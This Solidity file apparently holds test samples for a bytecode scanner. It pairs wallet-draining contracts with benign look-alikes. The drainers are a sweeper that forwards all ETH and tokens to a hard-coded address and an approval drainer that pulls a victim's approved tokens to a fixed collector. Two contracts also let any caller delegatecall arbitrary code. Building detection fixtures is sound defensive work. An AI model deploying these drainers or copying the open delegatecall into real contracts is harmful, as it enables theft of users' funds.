// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

// Test samples for the bytecode scan (tests/unit/test_bytecode_scan.py). Not deployed anywhere.

interface IToken {
    function balanceOf(address) external view returns (uint256);
    function transfer(address, uint256) external returns (bool);
    function transferFrom(address, address, uint256) external returns (bool);
}

/// CrimeEnjoyor-like sweeper: a hard-coded destination (PUSH20) gets every wei and token.
contract HardcodedSweeper {
    address constant DESTINATION = 0x36063540F3C333a0Db2be22089eb9128C688A35C;

    receive() external payable {
        payable(DESTINATION).transfer(address(this).balance);
    }

    function sweepToken(address token) external {
        IToken(token).transfer(DESTINATION, IToken(token).balanceOf(address(this)));
    }
}

/// Pulls what a victim approved to a fixed collector.
contract ApprovalDrainer {
    address constant COLLECTOR = 0x36063540F3C333a0Db2be22089eb9128C688A35C;

    function claim(address token, address victim, uint256 amount) external {
        IToken(token).transferFrom(victim, COLLECTOR, amount);
    }
}

/// An exchange deposit forwarder: benign, and the same shape as an ETH sweeper.
contract DepositForwarder {
    address payable public immutable parent;

    constructor(address payable parent_) {
        parent = parent_;
    }

    receive() external payable {
        (bool ok,) = parent.call{value: msg.value}("");
        require(ok);
    }
}

/// Any caller chooses the code that runs in this contract's context (Solidity).
contract ArbitraryDelegator {
    function run(address target, bytes calldata data) external payable returns (bytes memory) {
        (bool ok, bytes memory out) = target.delegatecall(data);
        require(ok);
        return out;
    }
}

/// The same in assembly: the target is the first calldata word.
contract AssemblyDelegator {
    fallback() external payable {
        assembly {
            let target := calldataload(0)
            calldatacopy(0, 32, sub(calldatasize(), 32))
            let ok := delegatecall(gas(), target, 0, sub(calldatasize(), 32), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}

/// A Safe-style proxy: the singleton is read from storage slot 0.
contract SingletonProxy {
    address internal singleton;

    constructor(address singleton_) {
        singleton = singleton_;
    }

    fallback() external payable {
        assembly {
            let impl := and(sload(0), 0xffffffffffffffffffffffffffffffffffffffff)
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), impl, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if eq(ok, 0) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}

/// Multicall by DELEGATECALL to itself (Uniswap's Multicall base): not a caller-chosen target.
contract SelfMulticall {
    uint256 public counter;

    function bump() external {
        counter += 1;
    }

    function multicall(bytes[] calldata data) external returns (bytes[] memory results) {
        results = new bytes[](data.length);
        for (uint256 i = 0; i < data.length; i++) {
            (bool ok, bytes memory out) = address(this).delegatecall(data[i]);
            require(ok);
            results[i] = out;
        }
    }
}

/// Can destroy itself (since Cancun: sends its ETH away; deletes code only in its creation tx).
contract Killable {
    address public immutable owner;

    constructor() {
        owner = msg.sender;
    }

    function kill() external {
        require(msg.sender == owner);
        selfdestruct(payable(owner));
    }
}

/// A benign 7702 delegate: only the account itself may execute a batch.
contract BatchAccount {
    struct Call {
        address to;
        uint256 value;
        bytes data;
    }

    function execute(Call[] calldata calls) external payable {
        require(msg.sender == address(this), "only self");
        for (uint256 i = 0; i < calls.length; i++) {
            (bool ok,) = calls[i].to.call{value: calls[i].value}(calls[i].data);
            require(ok, "call failed");
        }
    }

    receive() external payable {}
}
